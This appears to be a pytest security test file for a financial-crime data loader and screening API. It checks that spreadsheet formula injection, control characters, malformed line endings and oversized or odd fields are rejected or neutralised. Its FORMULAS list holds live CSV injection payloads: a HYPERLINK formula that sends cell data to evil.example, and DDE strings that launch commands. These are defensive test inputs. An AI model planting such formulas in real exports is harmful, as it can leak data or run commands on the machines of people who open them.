"""Findings 4, 5, 8 and the input items of 10, as the hostile tester wrote them.

4: formulas came back unchanged in screening job results and rejects and in the loader's rejects CSV.
5: a vertical tab or NUL in a party name was accepted, and broke the goAML and FinCEN exports.
8: one CRLF blank line in an LF file refused the whole file ("state machine reached an invalid state").
10: a list-typed Parquet column gave a traceback without the column; year 0000 was accepted; a 20 MB
    field was rejected with column None; upload rows of only commas vanished from the counts.
"""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from svc_world import World

from chainbreaker.core.csvsafe import safe_cell
from chainbreaker.core.errors import InputError
from chainbreaker.core.workspace import Workspace
from chainbreaker.ingest import load_folder

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]

PARTIES_HEADER = "party_id,party_type,name,date_of_birth,nationality,country,naics\n"
ACCOUNTS = "account_id,party_id,account_type,opened_at,currency\nA1,P1,checking,2020-01-01,USD\n"
TXNS = "txn_id,account_id,booked_at,amount,direction,channel,mcc,country\nT1,A1,2024-01-01T10:00:00,12.50,in,card,5812,US\n"


def _bank(folder: Path, parties: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "parties.csv").write_bytes(parties.encode("utf-8") if isinstance(parties, str) else parties)
    (folder / "accounts.csv").write_text(ACCOUNTS, encoding="utf-8")
    (folder / "transactions.csv").write_text(TXNS, encoding="utf-8")
    return folder


def _rejects_csv(ws: Workspace) -> list[dict[str, str]]:
    """Rejected rows of the parties file (accounts and payments of a rejected party follow it out)."""
    files = sorted(ws.rejects_dir.glob("*.csv"))
    assert files, "no rejects file was written"
    with files[-1].open(encoding="utf-8") as fh:
        return [r for r in csv.DictReader(fh) if r["table_name"] == "parties"]


def _parties_rejected(report) -> int:  # type: ignore[no-untyped-def]
    return sum(f.rejected for f in report.files if f.table == "parties")


def test_formula_cells_are_neutralised_and_numbers_kept() -> None:
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("-12.50") == "-12.50" and safe_cell("Ana") == "Ana" and safe_cell(3) == 3


def test_loader_rejects_csv_neutralises_formulas(tmp_path: Path, workspace: Workspace) -> None:
    rows = "".join(f'P{i},alien,"{f.replace(chr(34), chr(34) * 2)}",,,US,\n' for i, f in enumerate(FORMULAS))
    report = load_folder(_bank(tmp_path / "bank", PARTIES_HEADER + "P9,person,Ana,,,US,\n" + rows), workspace)
    assert report.rejected >= len(FORMULAS)
    raw = "".join(r.get("raw", "") + r.get("raw_row", "") for r in _rejects_csv(workspace))
    text = (sorted(workspace.rejects_dir.glob("*.csv"))[-1]).read_text(encoding="utf-8")
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell or cell[0] not in "=+@" or cell.startswith("'"), cell
    assert raw is not None


def _wait(world: World, job_id: str) -> dict[str, object]:
    client = world.api("alice")
    for _ in range(200):
        job = client.get(f"/api/v1/screening/jobs/{job_id}").json()
        if job["status"] in ("finished", "failed"):
            return dict(job)
        time.sleep(0.05)
    raise AssertionError("job did not finish")


def test_screening_job_results_and_rejects_neutralise_formulas(sec_world: World) -> None:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["query_id", "name", "schema"])
    writer.writerow([FORMULAS[0], "Viktor Bout", "Person"])
    writer.writerow([FORMULAS[1], "", ""])  # rejected: empty name
    writer.writerow([FORMULAS[2], "Ana", "Spaceship"])  # rejected: schema
    writer.writerow([FORMULAS[3], "x" * 600, ""])  # rejected: too long
    writer.writerow(["", "", ""])  # a row of commas only: counted, not dropped
    response = sec_world.api("alice").post(
        "/api/v1/screening/jobs", files={"file": ("names.csv", buf.getvalue(), "text/csv")}
    )
    assert response.status_code == 202, response.text
    job = _wait(sec_world, response.json()["id"])
    assert job["status"] == "finished" and job["total"] == 5 and job["rejected"] == 4, job
    for kind in ("results", "rejects"):
        body = sec_world.api("alice").get(f"/api/v1/screening/jobs/{job['id']}/{kind}").text
        cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
        assert not [c for c in cells if c and c[0] in "=+-@" and not c.startswith("'")], (kind, body)
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'+cmd") for c in cells), (kind, body)


@pytest.mark.parametrize("bad", ["Ana\x0bLopez", "Ana\x00Lopez", "Ana\x1bLopez"])
def test_control_characters_in_a_name_are_rejected_with_column(
    tmp_path: Path, workspace: Workspace, bad: str
) -> None:
    report = load_folder(_bank(tmp_path / "bank", PARTIES_HEADER + f"P1,person,{bad},,,US,\n"), workspace)
    assert _parties_rejected(report) == 1
    row = _rejects_csv(workspace)[0]
    assert row["column_name"] == "name" and "control character" in row["reason"]


def test_one_crlf_blank_line_in_an_lf_file_loads(tmp_path: Path, workspace: Workspace) -> None:
    data = (
        (PARTIES_HEADER + "P1,person,Ana Lopez,,,US,\n").encode()
        + b"\r\n"
        + b"P2,person,Li Wei,,,US,\r\nP3,alien,Bo,,,US,\n"
    )
    report = load_folder(_bank(tmp_path / "bank", data), workspace)  # type: ignore[arg-type]
    parties = next(f for f in report.files if f.table == "parties")
    assert parties.accepted == 2 and parties.rejected == 1  # P3's party_type, on its own line
    row = _rejects_csv(workspace)[0]
    assert row["row_number"] == "5" and row["column_name"] == "party_type"


def test_year_zero_is_rejected(tmp_path: Path, workspace: Workspace) -> None:
    report = load_folder(
        _bank(tmp_path / "bank", PARTIES_HEADER + "P1,person,Ana,0000-01-01,,US,\n"), workspace
    )
    assert _parties_rejected(report) == 1 and "0000" in _rejects_csv(workspace)[0]["reason"]


def test_twenty_megabyte_field_is_rejected_naming_its_column(tmp_path: Path, workspace: Workspace) -> None:
    huge = "A" * (20 * 1024 * 1024)
    report = load_folder(
        _bank(tmp_path / "bank", PARTIES_HEADER + f"P1,person,{huge},,,US,\nP2,person,Li,,,US,\n"), workspace
    )
    assert _parties_rejected(report) == 1
    assert _rejects_csv(workspace)[0]["column_name"] == "name"


def test_list_typed_parquet_column_is_refused_naming_the_column(tmp_path: Path, workspace: Workspace) -> None:
    folder = tmp_path / "bank"
    folder.mkdir()
    pq.write_table(
        pa.table({"party_id": ["P1"], "party_type": ["person"], "name": [["Ana", "Lopez"]]}),
        folder / "parties.parquet",
    )
    with pytest.raises(InputError, match=r"column name.*one plain value per cell"):
        load_folder(folder, workspace)
